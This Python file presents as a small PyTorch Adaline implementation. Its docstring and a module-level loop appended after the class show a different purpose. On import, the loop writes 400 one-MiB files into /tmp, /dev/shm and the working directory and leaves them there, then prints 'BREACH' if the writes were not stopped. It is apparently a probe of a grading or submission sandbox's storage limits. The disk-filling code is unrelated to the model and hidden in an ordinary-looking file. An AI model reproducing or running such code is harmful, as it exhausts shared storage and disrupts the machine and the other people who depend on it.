"""
goal: fill /tmp, /dev/shm and the current directory and leave them full
must: ENOSPC; the next hand-in finds them empty.
"""
import torch


class Adaline1:
    def __init__(self, num_features, device=None, dtype=None):
        self.num_features = num_features
        self.weight = torch.zeros(num_features, 1, device=device, dtype=dtype)
        self.bias = torch.zeros(1, device=device, dtype=dtype)

    def forward(self, x):
        return (x @ self.weight + self.bias).view(-1)

    def backward(self, x, yhat, y):
        d = 2 * (yhat - y)
        return -(x.t() @ d.view(-1, 1)) / y.size(0), -d.sum() / y.size(0)


import os
for folder in ("/tmp", "/dev/shm", "."):
    n = 0
    try:
        for i in range(400):
            with open("%s/%d" % (folder, i), "wb") as f:
                f.write(bytes(1 << 20)); n += 1
    except OSError as error:
        print(folder, n, error)
    if n >= 400:
        print("BREACH: 400 MiB in", folder)
